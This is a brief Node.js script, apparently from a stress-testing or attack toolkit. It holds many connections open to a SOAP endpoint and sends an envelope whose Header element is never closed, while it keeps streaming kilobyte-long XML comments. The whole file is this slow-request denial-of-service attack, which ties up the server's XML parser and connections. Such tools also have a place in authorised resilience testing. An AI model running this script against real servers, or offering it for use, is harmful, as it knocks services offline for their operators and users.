// Strangers that pour comments into an envelope whose header never comes: late-header.js URL ADDRESS [COUNT]
import { chunk, head, hold, pour } from './connections.js';

const [url, address, count = '8'] = process.argv.slice(2);
const comments = chunk(`<!--${'x'.repeat(1000)}-->`.repeat(16));
hold(url, Number(count), (socket) => {
  socket.write(head(url, address));
  socket.write(chunk('<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Header>'));
  pour(socket, () => comments);
});
